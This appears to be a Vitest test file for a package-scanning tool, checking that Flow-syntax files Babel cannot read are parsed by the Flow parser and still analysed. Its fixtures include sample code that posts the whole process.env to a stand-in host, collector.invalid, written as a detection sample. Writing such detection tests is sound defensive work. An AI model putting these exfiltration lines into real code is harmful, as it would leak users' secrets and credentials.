// Flow files in the syntax Babel's flow plugin does not read (React Native's own sources use it)
// are read by Flow's own parser and analyzed like any other file; a file no parser reads keeps its
// parse-error finding.
import { describe, expect, test } from 'vitest';
import { parseFile } from '../src/engine/parse/parse.js';
import { FLOW_PARSE_MAX_BYTES, flowParserStats } from '../src/engine/parse/flow-parse.js';
import { manifest, scanFiles } from './helpers/analyze.js';

/** Newer Flow, each line of which stops Babel: `as` casts, `as const`, `readonly`, `extends keyof` bounds. */
const FLOW_HEADER = `/**
 * @flow strict-local
 */
type Levels = { readonly log: string, readonly warn?: string };
export interface Options { readonly headers?: {[string]: string} }
function pick<K extends keyof Levels>(levels: Levels, key: K): Levels[K] {
  return levels[key] as Levels[K];
}
`;

const CLEAN = `${FLOW_HEADER}
export function install(console: {[string]: (...args: Array<unknown>) => void}, serverUrl: string): void {
  // A development log forwarder, as React Native has: the console's own arguments go to the dev server.
  (['log', 'warn', 'error'] as const).forEach(level => {
    const original = console[level];
    console[level] = (...args) => {
      original(...(args as Array<unknown>));
      fetch(serverUrl as string, { method: 'POST', body: JSON.stringify({ level, args } as {...}) });
    };
  });
  const retval = {} as {[string]: unknown};
  retval.levels = pick({ log: 'log' }, 'log');
}
`;

/** The same syntax around an environment exfiltration: the casts must not hide the flow. */
const MALICIOUS = `${FLOW_HEADER}
const https = require('https');
const payload = (JSON.stringify(process.env as {[string]: ?string}) as string);
const options = ({ host: 'collector.invalid', path: '/c', method: 'POST' } as const);
const req = https.request(options as {...});
req.end(payload as string);
`;

describe('Flow syntax Babel cannot read', () => {
  test('the minimal file defeats Babel alone (the premise of the fallback)', async () => {
    const { parse } = await import('@babel/parser');
    expect(() => parse(CLEAN, { sourceType: 'unambiguous', plugins: ['jsx', 'flow'] })).toThrow();
  });

  test('parseFile reads it with the Flow parser, casts kept as TypeCastExpression', () => {
    const out = parseFile('index.js', CLEAN);
    expect(out.error).toBeUndefined();
    expect(out.parser).toBe('hermes');
    expect(out.ast?.program.body.length).toBeGreaterThan(3);
    expect(JSON.stringify(out.ast, (k, v) => (k === 'loc' ? undefined : v))).toContain('"TypeCastExpression"');
  });

  test("where Babel only recovers (`return e as T` read as three statements), the Flow parser's reading is used", () => {
    const code = '// @flow\nexport function toError(e: mixed): Error {\n  return e as Error;\n}\n';
    const out = parseFile('index.js', code);
    expect(out.parser).toBe('hermes');
    const fn = out.ast!.program.body[0] as unknown as { declaration: { body: { body: { type: string; argument?: { type: string } }[] } } };
    expect(fn.declaration.body.body.map((s) => s.type)).toEqual(['ReturnStatement']);
    expect(fn.declaration.body.body[0]!.argument!.type).toBe('TypeCastExpression');
  });

  test('clean Flow module: parsed, no parse-error, clean', () => {
    const r = scanFiles({ 'package.json': manifest(), 'index.js': CLEAN });
    expect(r.of('parse-error')).toEqual([]);
    // Read by the parser for real (fetch sends it past the lexical gate), not skipped.
    expect(r.stats.parsedFiles).toBe(1);
    expect(r.stats.parseErrors).toBe(0);
    expect(r.verdict).toBe('clean');
  });

  test('its malicious twin (env posted through casts, on import) is still malicious', () => {
    const r = scanFiles({ 'package.json': manifest(), 'index.js': MALICIOUS });
    expect(r.of('parse-error')).toEqual([]);
    const env = r.of('env-access');
    expect(env.length).toBeGreaterThan(0);
    expect(env.some((f) => f.reach === 'import')).toBe(true);
    expect(r.verdict).toBe('malicious');
  });

  test('code inside Flow component syntax is walked (lowered to the function it means)', () => {
    const code = `// @flow
import * as React from 'react';
export component Beacon(label: string = 'x') {
  fetch('https://collector.invalid/c', { method: 'POST', body: JSON.stringify(process.env) });
  return label as string;
}
`;
    const out = parseFile('Beacon.js', code);
    expect(out.parser).toBe('hermes');
    const r = scanFiles({ 'package.json': manifest(), 'index.js': code });
    expect(r.of('parse-error')).toEqual([]);
    expect(r.of('env-access').length).toBeGreaterThan(0);
    expect(r.verdict).not.toBe('clean');
  });

  test('garbage that says @flow still gets the parse-error finding, naming both parsers', () => {
    const code = `// @flow\nconst e = JSON.stringify(process.env);\nfunction ( {\n  require("https").get(e as string\n`;
    const r = scanFiles({ 'package.json': manifest(), 'index.js': code });
    const pe = r.of('parse-error');
    expect(pe).toHaveLength(1);
    expect(pe[0]!.line).toBe(3);
    expect(pe[0]!.severity).toBe('medium');
    expect(pe[0]!.message).toMatch(/Flow parser: /);
    expect(pe[0]!.signals).toContain('analysis-gap');
    expect(r.verdict).not.toBe('clean');
  });

  test('a file that is not Flow gets no second parser: plain broken JavaScript is reported as before', () => {
    const r = scanFiles({ 'package.json': manifest(), 'index.js': 'const e = process.env;\nconst x = (e as string);\n' });
    const pe = r.of('parse-error');
    expect(pe).toHaveLength(1);
    expect(pe[0]!.message).not.toMatch(/Flow parser/);
  });

  test('over the size limit the Flow parser is not tried, and the gap is reported', () => {
    const filler = `const a${'x'.repeat(10)} = 1;\n`;
    const code = `// @flow\nconst e = process.env as {...};\n${filler.repeat(Math.ceil(FLOW_PARSE_MAX_BYTES / filler.length) + 1)}`;
    const parses = flowParserStats.parses;
    const out = parseFile('big.js', code);
    expect(out.ast).toBeUndefined();
    expect(out.error?.message).toMatch(/Flow parser: the Flow parser was not tried/);
    expect(flowParserStats.parses).toBe(parses);
  });

  test('input that exhausts the Flow parser is a parse-error, and the next Flow file still parses (fresh instance)', () => {
    // A long left-nested operator chain overflows the WebAssembly stack; the header keeps Babel out.
    const chain = `${FLOW_HEADER}const e = process.env;\nmodule.exports = 1${' + 1'.repeat(20_000)};\n`;
    const crashes = flowParserStats.crashes;
    const r = scanFiles({ 'package.json': manifest(), 'index.js': chain });
    const pe = r.of('parse-error');
    expect(pe).toHaveLength(1);
    expect(pe[0]!.message).toMatch(/Flow parser: the Flow parser failed/);
    // A limit of the fallback, not the deep-nesting evasion finding (Babel did not overflow).
    expect(pe[0]!.severity).toBe('medium');
    expect(flowParserStats.crashes).toBe(crashes + 1);
    const after = parseFile('index.js', CLEAN);
    expect(after.parser).toBe('hermes');
    expect(flowParserStats.loads).toBeGreaterThanOrEqual(2);
  });
});
